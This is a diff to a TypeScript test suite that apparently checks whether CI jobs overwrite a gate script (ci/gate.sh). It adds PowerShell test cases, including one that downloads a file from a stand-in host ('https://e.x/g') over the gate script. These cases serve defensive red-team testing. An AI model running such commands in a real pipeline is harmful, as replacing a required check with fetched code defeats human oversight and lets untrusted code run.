@@ -29,6 +29,11 @@ const LOST: Case[] = [
   ['pwsh Copy-Item over ci/gate.sh', job(shell('Copy-Item x ci/gate.sh', 'pwsh'))],
   ['pwsh Set-Content of ci/gate.sh', job(shell('Set-Content -Path ci/gate.sh -Value 0', 'pwsh'))],
   ['pwsh cp alias over ci/gate.sh', job(shell('cp x ci/gate.sh', 'pwsh'))],
+  ['pwsh copy-item (any case) over ci/gate.sh', job(shell('copy-item x ci/gate.sh', 'pwsh'))],
+  [
+    'pwsh Invoke-WebRequest -OutFile ci/gate.sh',
+    job(shell('Invoke-WebRequest -Uri https://e.x/g -OutFile ci/gate.sh', 'pwsh')),
+  ],
   ['cmd copy over ci/gate.sh', job(shell('copy x ci/gate.sh', 'cmd'))],
   // 2. a checkout script, a make recipe, a package script copying over it.
   ['ci/setup.sh: cp over ci/gate.sh', setup('cp /tmp/x ci/gate.sh\n')],
@@ -69,6 +74,14 @@ const KEPT: Case[] = [
   ],
   ['pwsh running bash ci/gate.sh', job('', {}, shell('bash ci/gate.sh', 'pwsh'))],
   ['pwsh running npx gitguard audit', job('', {}, shell('npx gitguard audit', 'pwsh'))],
+  [
+    'pwsh running node ci/gate.js',
+    job(
+      '',
+      { 'ci/gate.js': 'require("child_process").execSync("npx gitguard audit")\n' },
+      shell('node ci/gate.js', 'pwsh'),
+    ),
+  ],
 ];
 
 describe('redteam183: a command writing a file it names runs none of them', () => {
